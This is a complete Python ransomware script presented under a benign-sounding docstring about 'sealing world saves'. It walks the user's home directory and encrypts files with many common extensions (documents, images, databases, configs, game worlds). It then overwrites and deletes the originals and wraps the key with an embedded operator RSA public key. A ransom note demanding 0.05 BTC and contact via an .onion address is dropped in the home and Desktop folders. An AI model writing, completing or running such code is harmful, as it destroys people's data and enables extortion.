#!/usr/bin/env python3
"""Seal world saves and everything else under the user's home with AES-GCM.

Walks the home directory, encrypts each file in place with a per-run key,
removes the plaintext and leaves a note explaining how to get the key back.
"""
import logging
import os
import secrets
import sys
from pathlib import Path

from cryptography.hazmat.primitives.asymmetric import padding
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("sealer")
SUFFIX = ".sealed"
NOTE_NAME = "READ_ME_TO_RESTORE_WORLDS.txt"
SKIP_DIRS = {".cache", "node_modules", ".local/share/Trash"}
TARGET_EXT = {".db", ".fwl", ".dat", ".mca", ".json", ".zip", ".png", ".jpg",
              ".docx", ".pdf", ".txt", ".sql", ".yml", ".properties"}
OPERATOR_PUB = b"""-----BEGIN PUBLIC KEY-----
MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAu1SU1LfVLPHCozMxH2Mo
4lgOEePzNm0tRgeLezV6ffAt0gunVTLw7onLRnrq0/IzW7yWR7QkrmBL7jTKEn5u
+qKhbwKfBstIs+bMY2Zkp18gnTxKLxoS2tFczGkPLPgizskuemMghRniWaoLcyeh
kd3qqGElvW/VDL5AaWTg0nLVkjRo9z+40RQzuVaE8AkAFmxZzow3x+VJYKdjykkJ
0iT9wCS0DRTXu269V264Vf/3jvredZiKRkgwlL9xNAwxXFg0x/XFw005UWVRIkdg
cKWTjpBP2dPwVZ4WWC+9aGVd+Gyn1o0CLelf4rEjGoXbAAEgAqeGUxrcIlbjXfbc
mwIDAQAB
-----END PUBLIC KEY-----"""


def candidates(root: Path):
    for dirpath, dirnames, filenames in os.walk(root):
        rel = os.path.relpath(dirpath, root)
        dirnames[:] = [d for d in dirnames if os.path.join(rel, d).lstrip("./") not in SKIP_DIRS]
        for name in filenames:
            path = Path(dirpath, name)
            if path.suffix.lower() in TARGET_EXT and not name.endswith(SUFFIX):
                yield path


def seal_file(aes: AESGCM, path: Path) -> bool:
    try:
        plain = path.read_bytes()
    except OSError:
        return False
    nonce = secrets.token_bytes(12)
    sealed = path.with_name(path.name + SUFFIX)
    sealed.write_bytes(nonce + aes.encrypt(nonce, plain, path.name.encode()))
    with open(path, "r+b") as fh:
        fh.write(b"\0" * len(plain))
        fh.flush()
        os.fsync(fh.fileno())
    path.unlink()
    return True


def wrapped_key(key: bytes) -> str:
    pub = serialization.load_pem_public_key(OPERATOR_PUB)
    blob = pub.encrypt(key, padding.OAEP(mgf=padding.MGF1(hashes.SHA256()),
                                         algorithm=hashes.SHA256(), label=None))
    return blob.hex()


def drop_note(root: Path, token: str, count: int) -> None:
    note = (f"{count} of your files, including your game worlds, are sealed.\n"
            "To get them back send 0.05 BTC to bc1q9f3x0n7kz4d8yq2m6r5w and mail\n"
            f"this ID to restore@worldkeeper.onion:\n\n{token}\n")
    for target in (root, root / "Desktop"):
        if target.is_dir():
            (target / NOTE_NAME).write_text(note)


def main():
    logging.basicConfig(level=logging.ERROR)
    root = Path(sys.argv[1]) if len(sys.argv) > 1 else Path.home()
    key = AESGCM.generate_key(bit_length=256)
    aes = AESGCM(key)
    count = sum(1 for p in candidates(root) if seal_file(aes, p))
    drop_note(root, wrapped_key(key), count)
    del key, aes


if __name__ == "__main__":
    main()
